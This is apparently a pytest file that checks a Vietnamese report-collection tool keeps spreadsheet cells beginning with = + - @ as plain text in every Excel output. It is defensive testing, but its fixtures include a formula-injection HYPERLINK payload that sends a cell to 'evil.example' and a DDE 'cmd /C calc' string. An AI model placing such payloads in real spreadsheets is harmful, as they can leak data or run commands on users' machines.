"""Formula injection (SPEC §7, §12; issue 5): text a unit typed that begins with ``=``, ``+``, ``-`` or ``@``
is text in every output — the consolidated workbook and every feedback file — never a formula, a link or
a number. Checked in the files' own XML, the way Excel will read them.
"""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pytest

from automation.domain.dates import Period
from automation.plan.register import read_register
from automation.run.collect import collect
from automation.run.workspace import init_workspace
from automation.settings import Settings
from automation.templates.generate import COL_DONE_ON, COL_PROGRESS, COL_RESULTS, COL_STATUS, write_templates
from automation.templates.sample_files import fill_template

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
MAY = Period(2025, 5)
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

# what a unit typed, cell by cell, in TDKT's report (H results, I difficulties, J proposals, K evidence)
TYPED = {
    "H11": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "I11": "+84 912 345 678",
    "J11": "-Đề nghị bổ sung kinh phí",
    "K11": "@SUM(1+1)*cmd|' /C calc'!A0",
    "H12": "=1+1",
    "I12": "-5",
    "J12": "+1",
    "K12": "@Công văn 12/CV",
}
CODE = "=9+9"  # a Phối hợp row's task code: unknown, so it is quoted by a finding
UNIT = "=Ban Thi đua - Khen thưởng"  # the "Đơn vị:" cell: still names TDKT, shown in its feedback


def _as_text(ws) -> None:
    """Type the values as a person does who makes them text (a leading apostrophe in Excel)."""
    for ref, value in TYPED.items():
        ws[ref] = value
        ws[ref].data_type = "s"
    ws["A13"], ws["H13"], ws["B7"] = CODE, "=2*3", UNIT
    ws["A13"].data_type = ws["H13"].data_type = ws["B7"].data_type = "s"


@pytest.fixture(scope="module")
def outbox(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("injection") / "ws"
    init_workspace(folder)
    settings = Settings.load(folder)
    plan = read_register(settings.register_path).plan
    at = dt.datetime(2025, 5, 10, 9, tzinfo=TZ)
    write_templates(plan, settings.master_path, settings.period_dir(MAY) / "mau", MAY, 16, at)
    rows = {
        "1.1": {COL_STATUS: "Hoàn thành", COL_DONE_ON: "20/03/2025", COL_PROGRESS: 100},
        "1.2": {COL_STATUS: "Đang thực hiện", COL_PROGRESS: 40},
    }
    template = settings.period_dir(MAY) / "mau" / f"TDKT_{MAY}.xlsx"
    fill_template(template, settings.inbox_dir / f"TDKT_{MAY}.xlsx", rows, edit=_as_text, received_at=at)
    rows = {"2.1": {COL_STATUS: "=bad", COL_RESULTS: "-"}}  # rejected, with the typed text in its findings
    template = settings.period_dir(MAY) / "mau" / f"TCBC_{MAY}.xlsx"
    fill_template(template, settings.inbox_dir / f"TCBC_{MAY}.xlsx", rows,
                  edit=lambda ws: setattr(ws["E11"], "data_type", "s"), received_at=at)  # fmt: skip
    as_of = dt.datetime(2025, 5, 16, 8, tzinfo=TZ)
    output = collect(settings, plan, MAY, as_of, now=as_of)
    assert {f.path: f.outcome for f in output.result.files} == {
        f"inbox/TDKT_{MAY}.xlsx": "accepted",
        f"inbox/TCBC_{MAY}.xlsx": "rejected",
    }
    return settings.period_dir(MAY)


def _cells(path: Path) -> dict[str, list[tuple[str, str, str]]]:
    """Every cell of every sheet part: (reference, type attribute, text), shared strings resolved. Asserts
    on the way that no part holds a formula or a hyperlink."""
    with zipfile.ZipFile(path) as archive:
        shared = []
        if "xl/sharedStrings.xml" in archive.namelist():
            root = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{MAIN}t")) for si in root]
        cells = {}
        for name in archive.namelist():
            if not re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name):
                continue
            xml = archive.read(name)
            assert not re.search(rb"<(\w+:)?f[\s>/]", xml), f"{path.name} {name}: a formula"
            assert b"<hyperlink" not in xml, f"{path.name} {name}: a hyperlink"
            found = []
            for c in ElementTree.fromstring(xml).iter(f"{MAIN}c"):
                kind = c.get("t", "n")
                if kind == "s":
                    text = shared[int(c.find(f"{MAIN}v").text)]
                elif kind == "inlineStr":
                    text = "".join(t.text or "" for t in c.iter(f"{MAIN}t"))
                else:
                    value = c.find(f"{MAIN}v")
                    text = value.text if value is not None else ""
                found.append((c.get("r"), kind, text or ""))
            cells[name] = found
    return cells


def _texts(cells: dict[str, list[tuple[str, str, str]]]) -> set[str]:
    return {text for found in cells.values() for _, _, text in found}


def test_nothing_a_unit_typed_becomes_a_formula_link_or_number_in_any_output(outbox):
    outputs = [outbox / f"tong-hop_{MAY}.xlsx", *sorted((outbox / "phan-hoi").glob("*.xlsx"))]
    assert [p.name for p in outputs] == [f"tong-hop_{MAY}.xlsx", f"TCBC_{MAY}.xlsx", f"TDKT_{MAY}.xlsx"]
    for path in outputs:
        for part, found in _cells(path).items():
            for ref, kind, text in found:
                if text[:1] in ("=", "+", "-", "@"):
                    assert kind in ("s", "inlineStr"), (path.name, part, ref, kind, text)


def test_the_typed_text_is_in_the_consolidated_workbook_as_typed(outbox):
    texts = _texts(_cells(outbox / f"tong-hop_{MAY}.xlsx"))
    assert [value for value in [*TYPED.values(), CODE] if value not in texts] == []


def test_the_typed_text_is_in_each_units_feedback_as_typed(outbox):
    tdkt = _texts(_cells(outbox / "phan-hoi" / f"TDKT_{MAY}.xlsx"))
    assert [value for value in [*TYPED.values(), CODE, "=2*3", UNIT] if value not in tdkt] == []
    tcbc = _texts(_cells(outbox / "phan-hoi" / f"TCBC_{MAY}.xlsx"))
    assert "=bad" in tcbc


def test_the_product_writes_no_csv(outbox):
    """No output is CSV today; one added must prefix = + - @ and tab with ' (FACTS) and be checked here."""
    assert list(outbox.parent.parent.rglob("*.csv")) == []
